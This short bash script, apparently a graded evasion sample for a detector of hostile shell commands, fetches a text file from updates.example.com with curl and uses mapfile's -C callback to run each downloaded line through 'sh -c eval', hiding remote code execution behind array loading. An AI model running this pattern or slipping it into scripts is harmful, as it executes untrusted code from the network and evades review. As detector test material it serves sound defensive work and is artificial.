#!/usr/bin/env bash
# evasion: downloads code and runs it line by line
# grade: hard; does: download-exec
# Downloads code and runs it line by line. mapfile's -C callback is evaluated
# as a command string with the index and the line appended, so the callback
# `sh -c 'eval "$1"'` hands each downloaded line to a shell.
cb="sh -c 'eval \"\$1\"'"
mapfile -t -c 1 -C "$cb" lines < <(curl -fsSL https://updates.example.com/steps.txt)
echo "${#lines[@]} steps"
